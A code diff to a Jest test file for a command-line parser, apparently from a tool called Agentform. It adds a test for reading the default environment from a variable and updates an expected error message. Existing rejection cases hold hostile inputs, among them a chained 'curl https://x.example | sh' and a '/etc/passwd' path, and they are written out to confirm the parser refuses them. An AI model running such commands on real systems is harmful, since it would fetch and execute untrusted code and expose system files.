@@ -1,6 +1,8 @@
 import { describe, expect, test } from '@jest/globals';
 import fc from 'fast-check';
 import { commandNames, parseCommandLine } from '../../src/action/command-line.ts';
+import { planOptions } from '../../src/commands/plan/command.ts';
+import { publishOptions } from '../../src/commands/publish/command.ts';
 import { AgentformError } from '../../src/errors.ts';
 import { shellWord } from '../../src/text/wording.ts';
 import { hostileText } from '../report/hostile-text.ts';
@@ -154,6 +156,19 @@ describe('the input command', () => {
     }
   });
 
+  test('The command line takes its default environment from the variables at the time when it is read.', () => {
+    expect(planOptions().environment.default).toBeUndefined();
+    process.env.AGENTFORM_ENVIRONMENT = 'production';
+    try {
+      expect([planOptions(), publishOptions()].map(({ environment }) => environment.default)).toEqual([
+        'production',
+        'production',
+      ]);
+    } finally {
+      delete process.env.AGENTFORM_ENVIRONMENT;
+    }
+  });
+
   test('The input command may be options alone, which belong to apply.', () => {
     expect(parseCommandLine('--allow-older')).toMatchObject({
       command: 'apply',
@@ -173,7 +188,7 @@ describe('the input command', () => {
     ['apply; curl https://x.example | sh', 'which is not supported here; expected plan, validate, apply'],
     [
       'apply --plan /etc/passwd',
-      'which has an option that is not supported; apply takes --environment, --selector, --exclude, --allow-older',
+      'which has an option that is not supported; apply takes --environment, --selector, --exclude, --changed-since, --allow-older',
     ],
     ['apply --overwrite', 'which has an option that is not supported'],
     ['update web --to a --to b', 'which has --to more than once'],
